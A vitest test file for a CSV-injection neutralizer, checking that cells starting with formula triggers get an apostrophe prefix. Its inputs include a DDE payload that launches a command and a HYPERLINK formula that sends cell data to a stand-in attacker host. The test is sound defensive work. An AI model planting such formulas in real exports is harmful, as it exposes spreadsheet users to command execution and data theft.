import { stringify } from 'csv-stringify/sync';
import { describe, expect, it } from 'vitest';
import { FORMULA_TRIGGERS, neutralizeCsvCell, neutralizingCast } from '../../src-main/base/csv-cell';

describe('CSV injection rule', () => {
  it('prefixes every formula trigger with an apostrophe and leaves other text alone', () => {
    for (const trigger of FORMULA_TRIGGERS) expect(neutralizeCsvCell(`${trigger}cmd|' /C calc'!A0`)).toBe(`'${trigger}cmd|' /C calc'!A0`);
    expect(neutralizeCsvCell('=HYPERLINK("https://evil.example/?"&A1,"Click")')).toBe(`'=HYPERLINK("https://evil.example/?"&A1,"Click")`);
    for (const plain of ['', 'Acme GmbH', ' =1+1', "'=already", 'Smith — Partners', 'a=b']) expect(neutralizeCsvCell(plain)).toBe(plain);
  });

  it('applies to string cells through csv-stringify, never to numbers', () => {
    const csv = stringify([['=1+2', -5, '@SUM(A1)', '-x', 3]], { cast: neutralizingCast });
    expect(csv).toBe(`'=1+2,-5,'@SUM(A1),'-x,3\n`);
  });
});
